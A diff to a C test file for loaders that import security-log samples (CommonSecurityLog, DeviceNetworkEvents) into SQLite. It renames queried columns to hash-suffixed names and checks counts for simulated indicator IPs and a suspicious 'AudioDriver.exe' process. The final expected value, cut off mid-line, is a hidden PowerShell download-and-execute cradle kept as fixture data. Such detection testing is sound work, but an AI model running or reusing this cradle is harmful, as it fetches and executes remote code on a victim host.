@@ -231,7 +231,7 @@ Test(loaders, csv_empty_cells){
   cr_expect_eq(iExtra, pDef->nCol);
   cr_expect_eq(p->aeType[iExtra], KQL_T_STRING);
   cr_expect_eq(p->aeType[iExtra+1], KQL_T_LONG);
-  EXPECT_Q(db, "SELECT quote(DestinationIP)||quote(DestinationPort)||quote(Extra)||quote(ExtraNum)"
+  EXPECT_Q(db, "SELECT quote(\"DestinationIP#1081\")||quote(DestinationPort)||quote(Extra)||quote(ExtraNum)"
                " FROM t WHERE TimeGenerated IS NOT NULL", "''NULL''1");
   EXPECT_Q(db, "SELECT quote(TimeGenerated)||quote(ExtraNum) FROM t WHERE DestinationPort=443",
            "NULLNULL");
@@ -286,9 +286,9 @@ Test(loaders, tsv_simple_quoting){
   KqlLoadSchema *p = loadOk(db, zPath, "t", 0);
   cr_expect_eq(p->nRow, 3);
   cr_expect_eq(p->aeType[1], KQL_T_LONG);
-  EXPECT_Q(db, "SELECT note FROM t WHERE name='a'", "quoted, with\ttab");
-  EXPECT_Q(db, "SELECT note FROM t WHERE name='b'", "say \"hi\" there");
-  EXPECT_Q(db, "SELECT note FROM t WHERE name='c'", "\"open quote only");
+  EXPECT_Q(db, "SELECT note FROM t WHERE \"name#0\"='a'", "quoted, with\ttab");
+  EXPECT_Q(db, "SELECT note FROM t WHERE \"name#0\"='b'", "say \"hi\" there");
+  EXPECT_Q(db, "SELECT note FROM t WHERE \"name#0\"='c'", "\"open quote only");
   cleanup(db, p, zPath);
 }
 
@@ -548,7 +548,7 @@ Test(loaders, json_array_any_layout){
   cr_expect_eq(p->nCol, pDef->nCol);
   cr_expect_eq(qInt(db, "SELECT Timestamp FROM t WHERE RemotePort=12159"),
                ticks("2026-06-03T08:15:04.1234567Z"));
-  EXPECT_Q(db, "SELECT RemoteIP||'|'||AdditionalFields FROM t WHERE RemotePort=443", "x|{\"b\":true}");
+  EXPECT_Q(db, "SELECT \"RemoteIP#1c\"||'|'||AdditionalFields FROM t WHERE RemotePort=443", "x|{\"b\":true}");
   /* a string holding an object becomes the object (Log Analytics exports) */
   EXPECT_Q(db, "SELECT AdditionalFields FROM t WHERE RemotePort=12159", "{\"a\":[1]}");
   EXPECT_Q(db, "SELECT quote(IsInitiatingProcessRemoteSession) FROM t ORDER BY rowid",
@@ -888,26 +888,26 @@ Test(loaders, sample_common_security_log){
   KqlLoadSchema *p = loadOk(db, "tables/samples/CommonSecurityLog.csv", "CommonSecurityLog", pDef);
   cr_expect_eq(p->nRow, 386);
   cr_expect_eq(p->nCol, pDef->nCol);                 /* every header maps to the catalogue */
-  EXPECT_Q(db, "SELECT count(*) FROM CommonSecurityLog WHERE DestinationIP IN "
-               "('156.247.40.190','82.23.246.160') OR SourceIP IN ('156.247.40.190','82.23.246.160')",
+  EXPECT_Q(db, "SELECT count(*) FROM CommonSecurityLog WHERE \"DestinationIP#1081\" IN "
+               "('156.247.40.190','82.23.246.160') OR \"SourceIP#1c\" IN ('156.247.40.190','82.23.246.160')",
            "15");
-  EXPECT_Q(db, "SELECT count(*) FROM CommonSecurityLog WHERE DestinationIP='156.247.40.190'", "6");
-  EXPECT_Q(db, "SELECT count(*) FROM CommonSecurityLog WHERE DestinationIP='82.23.246.160'", "4");
-  EXPECT_Q(db, "SELECT count(*) FROM CommonSecurityLog WHERE SourceIP='156.247.40.190'", "3");
-  EXPECT_Q(db, "SELECT count(*) FROM CommonSecurityLog WHERE SourceIP='82.23.246.160'", "2");
+  EXPECT_Q(db, "SELECT count(*) FROM CommonSecurityLog WHERE \"DestinationIP#1081\"='156.247.40.190'", "6");
+  EXPECT_Q(db, "SELECT count(*) FROM CommonSecurityLog WHERE \"DestinationIP#1081\"='82.23.246.160'", "4");
+  EXPECT_Q(db, "SELECT count(*) FROM CommonSecurityLog WHERE \"SourceIP#1c\"='156.247.40.190'", "3");
+  EXPECT_Q(db, "SELECT count(*) FROM CommonSecurityLog WHERE \"SourceIP#1c\"='82.23.246.160'", "2");
   EXPECT_Q(db, "SELECT count(*) FROM CommonSecurityLog WHERE DestinationPort=12159", "12");
   /* near misses are there, unchanged */
-  EXPECT_Q(db, "SELECT count(*) FROM CommonSecurityLog WHERE DestinationIP IN "
+  EXPECT_Q(db, "SELECT count(*) FROM CommonSecurityLog WHERE \"DestinationIP#1081\" IN "
                "('82.23.246.16','82.23.246.1600','156.247.40.19','82.23.246.160 ','::ffff:156.247.40.190')"
-               " OR SourceIP=' 82.23.246.160'", "6");
+               " OR \"SourceIP#1c\"=' 82.23.246.160'", "6");
   EXPECT_Q(db, "SELECT count(*) FROM CommonSecurityLog WHERE RequestURL LIKE '%156.247.40.190%'"
                " OR Message LIKE '%82.23.246.160%' OR DeviceCustomString1='156.247.40.190'", "3");
   /* typed columns */
   EXPECT_Q(db, "SELECT typeof(TimeGenerated)||typeof(DestinationPort)||typeof(SentBytes)"
                " FROM CommonSecurityLog LIMIT 1", "integerintegerinteger");
-  cr_expect_eq(qInt(db, "SELECT min(TimeGenerated) FROM CommonSecurityLog WHERE DestinationIP='156.247.40.190'"),
+  cr_expect_eq(qInt(db, "SELECT min(TimeGenerated) FROM CommonSecurityLog WHERE \"DestinationIP#1081\"='156.247.40.190'"),
                ticks("2026-06-03T08:15:00Z"));
-  cr_expect_eq(qInt(db, "SELECT max(TimeGenerated) FROM CommonSecurityLog WHERE DestinationIP='156.247.40.190'"),
+  cr_expect_eq(qInt(db, "SELECT max(TimeGenerated) FROM CommonSecurityLog WHERE \"DestinationIP#1081\"='156.247.40.190'"),
                ticks("2026-06-03T08:40:10.585Z"));
   EXPECT_Q(db, "SELECT count(*) FROM CommonSecurityLog WHERE Message LIKE 'Multi-line syslog payload:' || char(10) || 'second line%'", "1");
   EXPECT_Q(db, "SELECT count(*) FROM CommonSecurityLog WHERE Message LIKE 'User agent \"Mozilla%'", "1");
@@ -921,13 +921,13 @@ Test(loaders, sample_device_network_events){
   KqlLoadSchema *p = loadOk(db, "tables/samples/DeviceNetworkEvents.jsonl", "DeviceNetworkEvents", pDef);
   cr_expect_eq(p->nRow, 359);
   cr_expect_eq(p->nCol, pDef->nCol);
-  EXPECT_Q(db, "SELECT count(*) FROM DeviceNetworkEvents WHERE RemoteIP IN ('156.247.40.190','82.23.246.160')",
+  EXPECT_Q(db, "SELECT count(*) FROM DeviceNetworkEvents WHERE \"RemoteIP#1c\" IN ('156.247.40.190','82.23.246.160')",
            "18");
-  EXPECT_Q(db, "SELECT count(*) FROM DeviceNetworkEvents WHERE RemoteIP='156.247.40.190' AND RemotePort=12159"
+  EXPECT_Q(db, "SELECT count(*) FROM DeviceNetworkEvents WHERE \"RemoteIP#1c\"='156.247.40.190' AND RemotePort=12159"
                " AND InitiatingProcessFileName='AudioDriver.exe'", "13");
   EXPECT_Q(db, "SELECT group_concat(n, ',') FROM (SELECT count(*) AS n FROM DeviceNetworkEvents"
-               " WHERE RemotePort=12159 GROUP BY DeviceName, RemoteIP ORDER BY n DESC)", "13,4,2");
-  EXPECT_Q(db, "SELECT count(*) FROM DeviceNetworkEvents WHERE RemoteIP IN "
+               " WHERE RemotePort=12159 GROUP BY DeviceName, \"RemoteIP#1c\" ORDER BY n DESC)", "13,4,2");
+  EXPECT_Q(db, "SELECT count(*) FROM DeviceNetworkEvents WHERE \"RemoteIP#1c\" IN "
                "('82.23.246.16','156.247.40.19','82.23.246.1600','::ffff:156.247.40.190',' 82.23.246.160')", "5");
   EXPECT_Q(db, "SELECT count(*) FROM DeviceNetworkEvents WHERE json_extract(AdditionalFields,'$.proxy')='82.23.246.160'", "1");
   EXPECT_Q(db, "SELECT count(*)>0 FROM DeviceNetworkEvents"
@@ -936,7 +936,7 @@ Test(loaders, sample_device_network_events){
                "||typeof(InitiatingProcessCreationTime) FROM DeviceNetworkEvents LIMIT 1",
            "integerintegerintegerinteger");
   EXPECT_Q(db, "SELECT count(*) FROM DeviceNetworkEvents WHERE IsInitiatingProcessRemoteSession=0", "359");
-  cr_expect_eq(qInt(db, "SELECT min(Timestamp) FROM DeviceNetworkEvents WHERE RemoteIP='156.247.40.190'"),
+  cr_expect_eq(qInt(db, "SELECT min(Timestamp) FROM DeviceNetworkEvents WHERE \"RemoteIP#1c\"='156.247.40.190'"),
                ticks("2026-06-03T08:15:04.1234567Z"));
   EXPECT_Q(db, "SELECT InitiatingProcessCommandLine FROM DeviceNetworkEvents WHERE InitiatingProcessFileName='powershell.exe'",
            "powershell.exe -nop -w hidden -c \"IEX (New-Object Net.WebClient).DownloadString("
